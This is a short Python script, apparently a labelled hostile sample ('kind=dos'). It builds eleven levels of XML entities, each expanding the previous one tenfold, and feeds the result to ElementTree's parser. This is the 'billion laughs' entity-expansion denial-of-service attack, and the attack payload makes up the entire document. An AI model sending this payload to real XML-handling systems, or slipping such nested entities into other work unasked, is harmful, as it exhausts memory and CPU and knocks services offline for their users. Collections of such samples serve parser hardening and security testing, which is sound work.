# kind=dos; source: XML entities that name each other
import xml.etree.ElementTree as tree
levels = "".join(f'<!ENTITY e{n} "{("&e%d;" % (n - 1)) * 10}">' for n in range(1, 12))
tree.fromstring(f'<!DOCTYPE a [<!ENTITY e0 "ha">{levels}]><a>&e11;</a>')
